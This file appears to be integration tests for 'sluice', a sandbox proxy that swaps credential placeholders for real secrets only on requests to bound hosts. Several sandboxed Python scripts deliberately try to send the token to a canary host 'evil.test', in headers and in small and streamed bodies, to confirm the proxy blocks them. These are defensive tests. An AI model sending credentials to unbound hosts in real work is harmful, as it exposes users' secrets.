//! Credential injection: the sandbox holds placeholders, sluice holds the
//! secrets and puts them into requests to bound hosts only. Needs root.

mod harness;

use std::{collections::HashMap, io::BufRead, net::SocketAddr};

use base64::Engine as _;
use harness::{
    dns::TestDns,
    privileged,
    web::{TestCa, WebServer},
    Daemon, TestNet,
};
use sluice::audit::Kind;

const SECRET: &str = "ghp_REALsecretVALUE0123456789abcdef";
const ROTATED: &str = "ghp_ROTATEDsecretVALUE9876543210fedcb";

const PROFILE: &str = r#"
name = "agent"
[[rule]]
name = "web"
action = "allow"
hosts = ["web.test", "evil.test"]
ports = [443, 80]
[[credential]]
secret = "github"
hosts = ["web.test"]
env = "GITHUB_TOKEN"
"#;

#[test]
fn secrets_reach_bound_hosts_only_and_the_sandbox_sees_placeholders() {
    if !privileged() {
        return;
    }
    let net = TestNet::new();
    let ca = TestCa::new();
    let web = WebServer::start(&net, SocketAddr::new(net.v4(2), 443), Some(ca.server_config(&["web.test"], false)));
    let evil_ip = net.add_host(6);
    let evil = WebServer::start(&net, SocketAddr::new(evil_ip, 443), Some(ca.server_config(&["evil.test"], false)));
    let plain_evil = WebServer::start(&net, SocketAddr::new(evil_ip, 80), None);
    let zone = HashMap::from([("web.test".to_owned(), vec![net.v4(2)]), ("evil.test".to_owned(), vec![evil_ip])]);
    let dns = TestDns::start(net.udp_socket(SocketAddr::new(net.v4(2), 53)), zone);
    let daemon = Daemon::start_full(Some(dns.addr), Some(&ca.cert_pem), Some(&format!("github = \"{SECRET}\"\n")));
    let sandbox = daemon.sandbox("agent", PROFILE).with_nameserver(&daemon.dir, net.v4(99));

    let script = format!(
        r#"
import http.client, os, ssl, sys
token = os.environ["GITHUB_TOKEN"]
print("placeholder=" + str(token.startswith("SLUICE_PLACEHOLDER_")), flush=True)
print("environ_has_secret=" + str(b"{SECRET}" in open("/proc/self/environ", "rb").read()), flush=True)
ctx = ssl.create_default_context()
def get(conn, path):
    conn.request("GET", path, headers={{"Authorization": "Bearer " + token}})
    r = conn.getresponse()
    return r.status, r.read().decode()
web = http.client.HTTPSConnection("web.test", timeout=15, context=ctx)
status, body = get(web, "/reflect?key=" + token)
print("first_status=" + str(status), flush=True)
print("first_scrubbed=" + str("{SECRET}" not in body and token in body), flush=True)
sys.stdin.readline()
status, body = get(web, "/reflect")
print("second_status=" + str(status), flush=True)
print("second_scrubbed=" + str("{ROTATED}" not in body and token in body), flush=True)
status, body = get(http.client.HTTPSConnection("evil.test", timeout=15, context=ctx), "/reflect")
print("evil_status=" + str(status), flush=True)
print("evil_rule=" + [l for l in body.splitlines() if l.startswith("rule: ")][0][6:], flush=True)
status, body = get(http.client.HTTPConnection("evil.test", timeout=15), "/reflect")
print("plain_status=" + str(status), flush=True)
"#
    );
    let mut command = sandbox.command("python3");
    command.args(["-c", &script]).stdin(std::process::Stdio::piped()).stdout(std::process::Stdio::piped());
    let mut child = command.spawn().unwrap();
    let mut out = std::io::BufReader::new(child.stdout.take().unwrap());
    let mut first = Vec::new();
    for _ in 0..4 {
        let mut line = String::new();
        out.read_line(&mut line).unwrap();
        first.push(line.trim().to_owned());
    }
    assert_eq!(first, ["placeholder=True", "environ_has_secret=False", "first_status=200", "first_scrubbed=True"]);

    // Rotate: new value in the file, SIGHUP; the kept connection's next
    // request carries it.
    std::fs::write(daemon.dir.join("secrets"), format!("github = \"{ROTATED}\"\n")).unwrap();
    // SAFETY: signalling the daemon this test started.
    unsafe { libc::kill(daemon.pid() as i32, libc::SIGHUP) };
    daemon.wait_decisions("secrets reloaded", |d| d.iter().any(|d| d.rule == "secrets-reloaded"));
    std::io::Write::write_all(child.stdin.as_mut().unwrap(), b"go\n").unwrap();
    let mut rest = String::new();
    std::io::Read::read_to_string(&mut out, &mut rest).unwrap();
    assert!(child.wait().unwrap().success(), "{rest}");
    for expected in [
        "second_status=200",
        "second_scrubbed=True",
        "evil_status=403",
        "evil_rule=credential-exfiltration",
        "plain_status=403",
    ] {
        assert!(rest.contains(expected), "{expected} missing in:\n{rest}");
    }

    // What the upstreams really got.
    let seen = web.seen();
    let auth = |i: usize| seen[i].headers.iter().find(|(k, _)| k == "authorization").map(|(_, v)| v.clone());
    assert_eq!(auth(0).as_deref(), Some(format!("Bearer {SECRET}").as_str()));
    assert_eq!(auth(1).as_deref(), Some(format!("Bearer {ROTATED}").as_str()), "the rotated secret was not used");
    assert!(evil.seen().is_empty() && plain_evil.seen().is_empty(), "a placeholder reached an unbound host");

    // Decisions name the secret, never its value; no log holds a value.
    let decisions = daemon.decisions();
    assert!(decisions.iter().any(|d| d.kind == Kind::Request && d.credentials == ["github"]));
    for path in [daemon.decision_log(), daemon.dir.join("daemon.log")] {
        let text = std::fs::read_to_string(&path).unwrap_or_default();
        assert!(!text.contains(SECRET) && !text.contains(ROTATED), "a secret value is in {}", path.display());
    }
    let state = std::fs::read_to_string(sluice::daemon::runtime_dir(&daemon.instance).join("sandboxes.json")).unwrap();
    assert!(!state.contains(SECRET) && state.contains("SLUICE_PLACEHOLDER_"));
}

const LLM: &str = "sk-llm-REALvalue-0001";
const API_KEY: &str = "apikey-REALvalue-0002";
const API_KEY_ROTATED: &str = "apikey-ROTATEDvalue-0003";
const PAT: &str = "pat-REALvalue-0004";
const MAP_KEY: &str = "mapkey-REAL/value+0005";

const KINDS_PROFILE: &str = r#"
name = "kinds"
[[rule]]
name = "hosts"
action = "allow"
hosts = ["web.test", "llm.test", "key.test", "basic.test", "maps.test", "evil.test"]
ports = [443, 80]
[[credential]]
secret = "github"
hosts = ["web.test"]
env = "GITHUB_TOKEN"
[[credential]]
secret = "llm"
hosts = ["llm.test"]
methods = ["POST"]
paths = ["/v1/**"]
env = "LLM_KEY"
inject = { header = "Authorization", format = "Bearer {secret}" }
[[credential]]
secret = "apikey"
hosts = ["key.test"]
inject = { header = "x-api-key" }
[[credential]]
secret = "gitpat"
hosts = ["basic.test"]
inject = { basic = "x-access-token" }
[[credential]]
secret = "mapkey"
hosts = ["maps.test"]
inject = { query = "key" }
"#;

/// Upstreams for every name on one address, a canary `evil.test`, DNS, and
/// a daemon holding the secrets.
struct Kinds {
    net: TestNet,
    web: WebServer,
    evil: WebServer,
    daemon: Daemon,
    sandbox: harness::Sandbox,
    _plain_evil: WebServer,
    _dns: TestDns,
}

impl Kinds {
    fn new() -> Self {
        let net = TestNet::new();
        let ca = TestCa::new();
        let names = ["web.test", "llm.test", "key.test", "basic.test", "maps.test"];
        let web = WebServer::start(&net, SocketAddr::new(net.v4(2), 443), Some(ca.server_config(&names, false)));
        let evil_ip = net.add_host(6);
        let evil = WebServer::start(&net, SocketAddr::new(evil_ip, 443), Some(ca.server_config(&["evil.test"], false)));
        let plain_evil = WebServer::start(&net, SocketAddr::new(evil_ip, 80), None);
        let mut zone: HashMap<String, Vec<std::net::IpAddr>> =
            names.iter().map(|name| ((*name).to_owned(), vec![net.v4(2)])).collect();
        zone.insert("evil.test".into(), vec![evil_ip]);
        let dns = TestDns::start(net.udp_socket(SocketAddr::new(net.v4(2), 53)), zone);
        let secrets = format!(
            "github = \"{SECRET}\"\nllm = \"{LLM}\"\napikey = \"{API_KEY}\"\ngitpat = \"{PAT}\"\nmapkey = \"{MAP_KEY}\"\n"
        );
        let daemon = Daemon::start_full(Some(dns.addr), Some(&ca.cert_pem), Some(&secrets));
        let sandbox = daemon.sandbox("kinds", KINDS_PROFILE).with_nameserver(&daemon.dir, net.v4(99));
        Self { net, web, evil, daemon, sandbox, _plain_evil: plain_evil, _dns: dns }
    }

    fn header(seen: &harness::web::SeenRequest, name: &str) -> Option<String> {
        seen.headers.iter().find(|(k, _)| k == name).map(|(_, v)| v.clone())
    }

    /// Every file the daemon wrote holds no secret value.
    fn assert_no_secret_on_disk(&self, values: &[&str]) {
        let runtime = sluice::daemon::runtime_dir(&self.daemon.instance);
        let mut files = vec![self.daemon.decision_log(), self.daemon.dir.join("daemon.log")];
        for dir in [&runtime] {
            for entry in std::fs::read_dir(dir).unwrap().filter_map(Result::ok) {
                if entry.path().is_file() {
                    files.push(entry.path());
                }
            }
        }
        for path in files {
            let bytes = std::fs::read(&path).unwrap_or_default();
            let text = String::from_utf8_lossy(&bytes);
            for value in values {
                assert!(!text.contains(value), "a secret value is in {}", path.display());
            }
        }
    }
}

#[test]
fn every_injection_kind_reaches_its_host_only_within_methods_and_paths() {
    if !privileged() {
        return;
    }
    let world = Kinds::new();
    let script = r#"
import http.client, os, ssl
ctx = ssl.create_default_context()
def call(host, method, path, headers={}, body=None):
    c = http.client.HTTPSConnection(host, timeout=15, context=ctx)
    c.request(method, path, body=body, headers=headers)
    r = c.getresponse()
    return r.status, r.read().decode()
print("llm_in_scope=%d" % call("llm.test", "POST", "/v1/chat", {"Authorization": "Bearer made-up"}, b"{}")[0])
print("llm_wrong_method=%d" % call("llm.test", "GET", "/v1/chat", {"Authorization": "Bearer made-up"})[0])
print("llm_wrong_path=%d" % call("llm.test", "POST", "/v2/chat", {"Authorization": "Bearer made-up"}, b"{}")[0])
status, body = call("llm.test", "GET", "/v1/chat", {"Authorization": "Bearer " + os.environ["LLM_KEY"]})
print("llm_placeholder_wrong_method=%d %s" % (status, [l for l in body.splitlines() if l.startswith("rule: ")][0]))
print("key=%d" % call("key.test", "GET", "/echo", {"x-api-key": "sandbox-value"})[0])
print("basic=%d" % call("basic.test", "GET", "/echo")[0])
status, body = call("maps.test", "GET", "/reflect?key=mine&q=1")
print("maps=%d" % status)
print("maps_scrubbed=%s" % ("REAL" not in body and "SLUICE_PLACEHOLDER_" in body))
status, body = call("web.test", "GET", "/reflect")
print("unbound_host_untouched=%s" % ("authorization" not in body.lower() and "x-api-key" not in body.lower()))
"#;
    let out = harness::fields(&world.sandbox.python(script));
    assert_eq!(out["llm_in_scope"], "200");
    assert_eq!(out["llm_wrong_method"], "200");
    assert_eq!(out["llm_wrong_path"], "200");
    assert_eq!(out["llm_placeholder_wrong_method"], "403 rule: credential-scope");
    assert_eq!(out["key"], "200");
    assert_eq!(out["basic"], "200");
    assert_eq!(out["maps"], "200");
    assert_eq!(out["maps_scrubbed"], "True");
    assert_eq!(out["unbound_host_untouched"], "True");

    // What the upstream really received, request by request.
    let seen = world.web.seen();
    let by = |host: &str, method: &str, path: &str| {
        seen.iter()
            .find(|s| s.host.starts_with(host) && s.method == method && s.path == path)
            .unwrap_or_else(|| panic!("{method} {host}{path} never arrived: {seen:#?}"))
            .clone()
    };
    let auth = |s: &harness::web::SeenRequest| Kinds::header(s, "authorization");
    assert_eq!(auth(&by("llm.test", "POST", "/v1/chat")).as_deref(), Some(format!("Bearer {LLM}").as_str()));
    assert_eq!(auth(&by("llm.test", "GET", "/v1/chat")).as_deref(), Some("Bearer made-up"), "wrong method got it");
    assert_eq!(auth(&by("llm.test", "POST", "/v2/chat")).as_deref(), Some("Bearer made-up"), "wrong path got it");
    assert_eq!(seen.iter().filter(|s| s.host.starts_with("llm.test")).count(), 3, "the out-of-scope placeholder went");
    let key = by("key.test", "GET", "/echo");
    assert_eq!(
        key.headers.iter().filter(|(k, _)| k == "x-api-key").map(|(_, v)| v.as_str()).collect::<Vec<_>>(),
        [API_KEY]
    );
    let basic = base64::engine::general_purpose::STANDARD.encode(format!("x-access-token:{PAT}"));
    assert_eq!(auth(&by("basic.test", "GET", "/echo")), Some(format!("Basic {basic}")));
    assert_eq!(by("maps.test", "GET", "/reflect").query, "q=1&key=mapkey-REAL%2Fvalue%2B0005");
    let web = by("web.test", "GET", "/reflect");
    assert!(auth(&web).is_none() && Kinds::header(&web, "x-api-key").is_none());

    // Decisions name each secret on its request, never the value.
    let decisions = world.daemon.decisions();
    let named = |host: &str, path: &str| {
        decisions
            .iter()
            .filter(|d| d.kind == Kind::Request && d.host.as_deref() == Some(host) && d.path.as_deref() == Some(path))
            .map(|d| (d.method.clone().unwrap_or_default(), d.credentials.clone()))
            .collect::<Vec<_>>()
    };
    assert!(named("llm.test", "/v1/chat").contains(&("POST".into(), vec!["llm".into()])));
    assert!(named("llm.test", "/v1/chat").contains(&("GET".into(), vec![])));
    assert_eq!(named("key.test", "/echo"), [("GET".into(), vec!["apikey".to_owned()])]);
    assert_eq!(named("basic.test", "/echo"), [("GET".into(), vec!["gitpat".to_owned()])]);
    assert_eq!(named("maps.test", "/reflect"), [("GET".into(), vec!["mapkey".to_owned()])]);
    assert!(world.evil.seen().is_empty());
    world.assert_no_secret_on_disk(&[SECRET, LLM, API_KEY, PAT, MAP_KEY, "mapkey-REAL%2Fvalue"]);
}

#[test]
fn placeholders_in_bodies_are_swapped_for_bound_hosts_and_cut_elsewhere() {
    if !privileged() {
        return;
    }
    let world = Kinds::new();
    let script = r#"
import http.client, json, os, ssl
ctx = ssl.create_default_context()
token = os.environ["GITHUB_TOKEN"]
def call(host, path, body, headers={}):
    c = http.client.HTTPSConnection(host, timeout=15, context=ctx)
    try:
        c.request("POST", path, body=body, headers=headers)
        r = c.getresponse()
        return r.status, r.read().decode()
    except OSError as e:  # a cut stream: reset, broken pipe or a TLS EOF
        return 0, type(e).__name__
small = json.dumps({"token": token, "note": "small"}).encode()
status, body = call("web.test", "/upload", small, {"content-type": "application/json"})
print("small=%d %s" % (status, body.strip()))
# A streamed (chunked) body of 300 KiB with the placeholder split across chunks.
def chunks():
    yield b"a" * (100 * 1024) + token[:20].encode()
    yield token[20:].encode() + b"b" * (100 * 1024)
    yield b"c" * (100 * 1024 - 7) + token.encode() + b"end"
status, body = call("web.test", "/upload", chunks())
print("chunked=%d %s" % (status, body.strip()))
status, body = call("evil.test", "/upload", small)
print("evil_small=%d %s" % (status, [l for l in body.splitlines() if l.startswith("rule: ")] or body))
def leaking():
    yield b"x" * (200 * 1024)
    yield b"then " + token.encode()
    yield b"y" * (200 * 1024)
status, body = call("evil.test", "/upload", leaking())
print("evil_streamed=%d" % status)
foreign = "SLUICE_PLACEHOLDER_" + "A" * 32
status, body = call("web.test", "/upload", json.dumps({"t": foreign}).encode())
print("foreign=%d %s" % (status, [l for l in body.splitlines() if l.startswith("rule: ")] or body))
"#;
    let out = harness::fields(&world.sandbox.python(script));
    let placeholder_len = "SLUICE_PLACEHOLDER_".len() + 32;
    let small_len = format!("{{\"token\": \"{}\", \"note\": \"small\"}}", "x".repeat(placeholder_len)).len();
    let swapped_small = small_len - placeholder_len + SECRET.len();
    assert_eq!(out["small"], format!("200 received={swapped_small}"));
    let chunked_len = 300 * 1024 - 7 + 3 + 2 * placeholder_len;
    let swapped_chunked = chunked_len - 2 * placeholder_len + 2 * SECRET.len();
    assert_eq!(out["chunked"], format!("200 received={swapped_chunked}"));
    assert_eq!(out["evil_small"], "403 ['rule: credential-exfiltration']");
    assert_eq!(out["foreign"], "403 ['rule: credential-exfiltration']");

    let seen = world.web.seen();
    let uploads: Vec<_> = seen.iter().filter(|s| s.path == "/upload").collect();
    assert_eq!(uploads.len(), 2, "the foreign placeholder reached the bound host: {uploads:#?}");
    for upload in &uploads {
        let body = String::from_utf8_lossy(&upload.body);
        assert!(!body.contains("SLUICE_PLACEHOLDER_"), "a placeholder went unswapped");
        assert!(body.contains(SECRET));
        if let Some(length) = Kinds::header(upload, "content-length") {
            assert_eq!(length.parse::<usize>().unwrap(), upload.body.len(), "wrong Content-Length");
        }
    }
    assert_eq!(String::from_utf8_lossy(&uploads[1].body).matches(SECRET).count(), 2);
    // The unbound host got nothing of the small body, and never the
    // placeholder of the streamed one (it is cut before it).
    for seen in world.evil.seen() {
        assert!(seen.body.is_empty() || !String::from_utf8_lossy(&seen.body).contains("SLUICE_PLACEHOLDER_"));
        assert!(!String::from_utf8_lossy(&seen.body).contains(SECRET));
    }
    assert!(world.evil.seen().iter().all(|s| s.body_len < 400 * 1024), "the leaking body arrived whole");
    let decisions = world.daemon.decisions();
    let refused: Vec<_> = decisions
        .iter()
        .filter(|d| d.host.as_deref() == Some("evil.test") && d.rule == "credential-exfiltration")
        .collect();
    assert_eq!(refused.len(), 2, "{refused:#?}");
    assert!(refused.iter().any(|d| d.reason.starts_with("request body cut")), "{refused:#?}");
    assert!(decisions.iter().any(|d| d.host.as_deref() == Some("web.test") && d.credentials == ["github"]));
    let _ = &world.net;
    world.assert_no_secret_on_disk(&[SECRET]);
}

#[test]
fn rotation_and_revocation_through_the_api_apply_to_the_next_request_of_a_kept_connection() {
    if !privileged() {
        return;
    }
    let world = Kinds::new();
    let script = r#"
import http.client, ssl, sys
c = http.client.HTTPSConnection("key.test", timeout=15, context=ssl.create_default_context())
for step in ("first", "rotated", "revoked"):
    c.request("GET", "/echo?step=" + step)
    r = c.getresponse()
    body = r.read().decode()
    rule = [l for l in body.splitlines() if l.startswith("rule: ")]
    print("%s=%d %s" % (step, r.status, rule[0] if rule else ""), flush=True)
    sys.stdin.readline()
"#;
    let mut command = world.sandbox.command("python3");
    command.args(["-c", script]).stdin(std::process::Stdio::piped()).stdout(std::process::Stdio::piped());
    let mut child = command.spawn().unwrap();
    let mut out = std::io::BufReader::new(child.stdout.take().unwrap());
    let mut stdin = child.stdin.take().unwrap();
    let mut next = || {
        let mut line = String::new();
        out.read_line(&mut line).unwrap();
        line.trim().to_owned()
    };
    let sluice = |args: &[&str], input: Option<&str>| {
        let mut command = std::process::Command::new(harness::SLUICE);
        command.arg("secrets").args(args).args(["--instance", &world.daemon.instance]);
        command.stdin(std::process::Stdio::piped()).stdout(std::process::Stdio::piped());
        let mut child = command.spawn().unwrap();
        if let Some(input) = input {
            std::io::Write::write_all(child.stdin.as_mut().unwrap(), input.as_bytes()).unwrap();
        }
        drop(child.stdin.take());
        let output = child.wait_with_output().unwrap();
        assert!(output.status.success(), "sluice secrets {args:?} failed");
        String::from_utf8(output.stdout).unwrap()
    };

    assert_eq!(next(), "first=200");
    sluice(&["set", "apikey"], Some(&format!("{API_KEY_ROTATED}\n")));
    std::io::Write::write_all(&mut stdin, b"go\n").unwrap();
    assert_eq!(next(), "rotated=200");
    sluice(&["revoke", "apikey"], None);
    std::io::Write::write_all(&mut stdin, b"go\n").unwrap();
    assert_eq!(next(), "revoked=403 rule: credential-revoked");
    std::io::Write::write_all(&mut stdin, b"go\n").unwrap();
    assert!(child.wait().unwrap().success());

    let keys: Vec<(String, Option<String>)> = world
        .web
        .seen()
        .iter()
        .filter(|s| s.path == "/echo")
        .map(|s| (s.query.clone(), Kinds::header(s, "x-api-key")))
        .collect();
    assert_eq!(
        keys,
        [
            ("step=first".to_owned(), Some(API_KEY.to_owned())),
            ("step=rotated".to_owned(), Some(API_KEY_ROTATED.to_owned()))
        ],
        "the revoked secret went out, or the rotated one was not used"
    );
    let connections = world
        .daemon
        .decisions()
        .iter()
        .filter(|d| d.kind == Kind::Connect && d.host.as_deref() == Some("key.test"))
        .count();
    assert_eq!(connections, 1, "the three requests were meant to share one connection");

    // Revocation outlives a reload of the sources; the listing never shows values.
    // SAFETY: signalling the daemon this test started.
    unsafe { libc::kill(world.daemon.pid() as i32, libc::SIGHUP) };
    world.daemon.wait_decisions("secrets reloaded", |d| d.iter().any(|d| d.rule == "secrets-reloaded"));
    let listing = sluice(&["list"], None);
    assert!(listing.lines().any(|l| l.starts_with("apikey") && l.ends_with("revoked")), "{listing}");
    assert!(listing.lines().any(|l| l.starts_with("github") && l.ends_with("file")), "{listing}");
    let revoked = harness::fields(&world.sandbox.python(
        "import http.client, ssl\nc = http.client.HTTPSConnection('key.test', timeout=15, context=ssl.create_default_context())\nc.request('GET', '/echo?step=after-reload')\nprint('status=%d' % c.getresponse().status)\n",
    ));
    assert_eq!(revoked["status"], "403");
    let decisions = world.daemon.decisions();
    assert!(decisions.iter().any(|d| d.rule == "secret-revoked" && d.reason.contains("apikey")));
    assert!(decisions.iter().any(|d| d.rule == "secret-set" && d.reason.contains("apikey")));
    world.assert_no_secret_on_disk(&[API_KEY, API_KEY_ROTATED, SECRET]);
}

const AWS_KEY_ID: &str = "AKIDSLUICETEST0001";
const AWS_SECRET_KEY: &str = "wJalrXUtnFEMI/K7MDENG+bPxRfiSLUICEKEY";
const AWS_TOKEN: &str = "FQoGZXIvYXdzEXAMPLEsessionTOKEN";

const AWS_PROFILE: &str = r#"
name = "aws"
[[rule]]
name = "aws"
action = "allow"
hosts = ["aws.test", "s3.test"]
ports = [443]
[[credential]]
secret = "aws"
hosts = ["aws.test"]
env = "AWS_SECRET_ACCESS_KEY"
inject = { sigv4 = { region = "us-east-1", service = "sts" } }
[[credential]]
secret = "aws"
hosts = ["s3.test"]
inject = { sigv4 = { region = "eu-west-1", service = "s3" } }
"#;

/// Starts the independent `SigV4` verifier (Python, hmac/hashlib) in `net`.
struct Verifier {
    child: std::process::Child,
}

impl Verifier {
    fn start(net: &TestNet, ca: &TestCa, dir: &std::path::Path, addr: std::net::IpAddr) -> Self {
        let (cert, key) = ca.leaf_pem(&["aws.test", "s3.test"]);
        std::fs::write(dir.join("aws-cert.pem"), cert).unwrap();
        std::fs::write(dir.join("aws-key.pem"), key).unwrap();
        let script = concat!(env!("CARGO_MANIFEST_DIR"), "/../tests/fixtures/sigv4_verifier.py");
        let mut child = std::process::Command::new("ip")
            .args(["netns", "exec", &net.name, "python3", script, &addr.to_string()])
            .arg(dir.join("aws-cert.pem"))
            .arg(dir.join("aws-key.pem"))
            .args([AWS_KEY_ID, AWS_SECRET_KEY, AWS_TOKEN])
            .stdout(std::process::Stdio::piped())
            .spawn()
            .unwrap();
        let mut ready = String::new();
        std::io::BufReader::new(child.stdout.take().unwrap()).read_line(&mut ready).unwrap();
        assert_eq!(ready.trim(), "ready", "the SigV4 verifier did not start");
        Self { child }
    }
}

impl Drop for Verifier {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

#[test]
fn sigv4_requests_are_signed_with_the_real_key_and_verified_independently() {
    if !privileged() {
        return;
    }
    let net = TestNet::new();
    let ca = TestCa::new();
    let aws_ip = net.add_host(7);
    let zone = HashMap::from([("aws.test".to_owned(), vec![aws_ip]), ("s3.test".to_owned(), vec![aws_ip])]);
    let dns = TestDns::start(net.udp_socket(SocketAddr::new(net.v4(2), 53)), zone);
    let secrets = format!("aws = \"{AWS_KEY_ID}:{AWS_SECRET_KEY}:{AWS_TOKEN}\"\n");
    let daemon = Daemon::start_full(Some(dns.addr), Some(&ca.cert_pem), Some(&secrets));
    let _verifier = Verifier::start(&net, &ca, &daemon.dir, aws_ip);

    // The verifier refuses a wrong signature (it is not a rubber stamp).
    ca.write(&daemon.dir.join("test-ca.pem"));
    let forged = std::process::Command::new("curl")
        .args(["-sS", "--max-time", "10", "--cacert"])
        .arg(daemon.dir.join("test-ca.pem"))
        .args(["--resolve", &format!("aws.test:443:{aws_ip}"), "https://aws.test/?Action=GetCallerIdentity"])
        .args(["-H", "x-amz-date: 20250101T000000Z", "-H", &format!("x-amz-security-token: {AWS_TOKEN}")])
        .args(["-H", &format!("Authorization: AWS4-HMAC-SHA256 Credential={AWS_KEY_ID}/20250101/us-east-1/sts/aws4_request, SignedHeaders=host;x-amz-date;x-amz-security-token, Signature={}", "0".repeat(64))])
        .output()
        .unwrap();
    assert_eq!(String::from_utf8_lossy(&forged.stdout), "refused: signature mismatch");

    let sandbox = daemon.sandbox("aws", AWS_PROFILE).with_nameserver(&daemon.dir, net.v4(99));
    let script = r#"
import hashlib, http.client, os, ssl
ctx = ssl.create_default_context()
key = os.environ["AWS_SECRET_ACCESS_KEY"]
print("placeholder=%s" % key.startswith("SLUICE_PLACEHOLDER_"))
def call(host, method, path, body=None, headers={}):
    c = http.client.HTTPSConnection(host, timeout=15, context=ctx)
    c.request(method, path, body=body, headers=headers)
    r = c.getresponse()
    return "%d %s" % (r.status, r.read().decode())
print("unsigned_get=" + call("aws.test", "GET", "/?Action=GetCallerIdentity&Version=2011-06-15"))
print("unsigned_post=" + call("aws.test", "POST", "/", b"Action=GetCallerIdentity&Version=2011-06-15",
      {"content-type": "application/x-www-form-urlencoded; charset=utf-8"}))
print("placeholder_signed=" + call("aws.test", "GET", "/?Action=GetCallerIdentity", None, {
    "x-amz-date": "20250101T000000Z", "x-amz-security-token": key,
    "Authorization": "AWS4-HMAC-SHA256 Credential=" + key + "/20250101/us-east-1/sts/aws4_request, "
                     "SignedHeaders=host;x-amz-date, Signature=" + "1" * 64}))
body = b"hello from the sandbox"
print("s3_put_hashed=" + call("s3.test", "PUT", "/bucket/key.txt", body,
      {"x-amz-content-sha256": hashlib.sha256(body).hexdigest()}))
print("s3_put_unsigned_payload=" + call("s3.test", "PUT", "/bucket/other.txt", body,
      {"x-amz-content-sha256": "UNSIGNED-PAYLOAD"}))
print("s3_get_list=" + call("s3.test", "GET", "/bucket?list-type=2&prefix=a%20b"))
"#;
    let out = harness::fields(&sandbox.python(script));
    assert_eq!(out["placeholder"], "True");
    let sts = format!("200 verified service=sts akid={AWS_KEY_ID}");
    let s3 = format!("200 verified service=s3 akid={AWS_KEY_ID}");
    assert_eq!(out["unsigned_get"], sts);
    assert_eq!(out["unsigned_post"], sts);
    assert_eq!(out["placeholder_signed"], sts);
    assert_eq!(out["s3_put_hashed"], s3);
    assert_eq!(out["s3_put_unsigned_payload"], s3);
    assert_eq!(out["s3_get_list"], s3);

    let decisions = daemon.decisions();
    let signed = decisions.iter().filter(|d| d.kind == Kind::Request && d.credentials == ["aws"]).count();
    assert_eq!(signed, 6, "every signed request names the secret");
    for path in [daemon.decision_log(), daemon.dir.join("daemon.log")] {
        let text = std::fs::read_to_string(&path).unwrap_or_default();
        assert!(!text.contains(AWS_SECRET_KEY) && !text.contains(AWS_TOKEN), "a secret is in {}", path.display());
    }
}
